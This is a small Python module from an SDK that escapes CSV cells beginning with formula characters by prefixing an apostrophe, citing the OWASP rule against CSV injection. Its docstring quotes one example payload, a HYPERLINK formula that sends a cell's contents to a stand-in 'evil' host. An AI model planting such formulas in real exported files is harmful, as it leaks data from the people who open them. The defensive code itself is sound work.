"""Cells of the CSV files the SDK writes, made safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
spreadsheets as a formula: an input row such as `=HYPERLINK("http://evil/?"&A1,"x")`,
written back into the errors file, would run when a user opens it. Such a cell gets a
leading `'` (the OWASP rule for CSV injection), which spreadsheets show as text. The value
as given is kept unchanged in the checkpoint (`rows.email`, `row_outcomes`).
"""

from __future__ import annotations

from typing import Final

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def neutralised(cell: str) -> str:
    """`cell`, prefixed with `'` if a spreadsheet would take it as a formula."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
